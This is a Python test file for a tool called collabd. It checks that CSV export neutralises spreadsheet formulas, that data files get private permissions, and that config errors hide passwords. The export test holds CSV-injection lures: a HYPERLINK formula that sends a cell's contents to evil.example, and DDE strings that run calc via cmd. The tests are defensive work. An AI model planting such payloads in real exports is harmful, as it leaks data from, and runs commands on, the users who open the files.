"""Issue 15, secrets and files: what collabd writes to disk and prints keeps secrets secret,
and what it exports cannot run in a spreadsheet. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from tests.conftest import Cli


def test_csv_export_never_writes_a_formula(demo_ledger: Cli):
    lures = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]
    for lure in lures:
        demo_ledger.ok("items", "add", "--collab", "v2-launch", lure, "--owner", "李娜")
    exported = demo_ledger.ok("export", "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for lure in lures:
        assert "'" + lure in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_data_directory_and_ledger_are_private_whatever_the_umask(cli: Cli, tmp_path: Path):
    old = os.umask(0o022)
    try:
        cli.ok("people", "list")
    finally:
        os.umask(old)
    data = tmp_path / "data"
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    ledger = data / "collabd.sqlite3"
    if ledger.exists():  # the SQLite run; PostgreSQL keeps its files itself
        assert stat.S_IMODE(ledger.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[store]\nurl = "mysql://collabd:s3cret-db-pw@db.example.com/collabd"\n', "store.url"),
        ('[store]\nurl = "mysql://collabd:s3cret@pw/x@db.example.com/collabd"\n', "store.url"),
        ('[store]\nurl = "mysql://db.example.com/collabd?password=s3cret"\n', "store.url"),
        ('[mail.smtp]\npassword = ["s3cret-smtp-pw"]\n', "mail.smtp.password"),
        # unknown keys that look secret, misspelt ones too: named, never shown
        ('[mail.smtp]\npasword = "s3cret-typo"\n', "mail.smtp.pasword"),
        ('[mail.imap]\npasswd = "s3cret-passwd"\n', "mail.imap.passwd"),
        ('[mail.graph]\nclient_secert = "s3cret-app"\n', "mail.graph.client_secert"),
        ('[mail]\napi_key = "s3cret-key"\n', "mail.api_key"),
        ('[mail.oauth]\nbearer_token = "s3cret-bearer"\n', "mail.oauth.bearer_token"),
    ],
)
def test_a_config_error_never_prints_a_secret(tmp_path: Path, capsys, text: str, key: str):
    from daemon.cli.main import main

    config = tmp_path / "collabd.toml"
    config.write_text(text, encoding="utf-8")
    assert main(["--config", str(config), "people", "list"]) == 78
    err = capsys.readouterr().err
    assert f"{config}: {key} = " in err
    assert "s3cret" not in err


def test_check_config_shows_the_ledger_url_without_its_password(tmp_path: Path, capsys):
    from daemon.cli.main import main

    config = tmp_path / "collabd.toml"
    config.write_text(
        '[store]\nurl = "postgresql://collabd:p@ss-s3cret@db.example.com/collabd'
        '?sslpassword=s3cret-ssl"\n',
        encoding="utf-8",
    )
    main(["--config", str(config), "check-config"])
    out = capsys.readouterr().out
    assert "db.example.com/collabd" in out and "s3cret" not in out


def test_archive_of_a_theme_of_90_chinese_characters(demo_ledger: Cli, tmp_path: Path):
    from tests.conftest import DEMO

    spec = (DEMO / "collaboration.toml").read_text("utf-8")
    long_theme = "跨部门协作" * 18  # 90 characters, 270 bytes in UTF-8
    spec = spec.replace('code = "v2-launch"', 'code = "long-theme"').replace(
        'theme = "产品V2.0版本研发协作"', f'theme = "{long_theme}"'
    )
    toml = tmp_path / "long.toml"
    toml.write_text(spec, encoding="utf-8")
    demo_ledger.ok("collab", "create", "--file", str(toml))
    out = demo_ledger.ok("archive", "long-theme", "--out", str(tmp_path / "out"), "--force")
    (folder,) = (tmp_path / "out").iterdir()
    assert len(folder.name.encode()) <= 200 and folder.name.startswith("2026-11-跨部门协作")
    assert (folder / "record.xlsx").exists() and "archived long-theme" in out
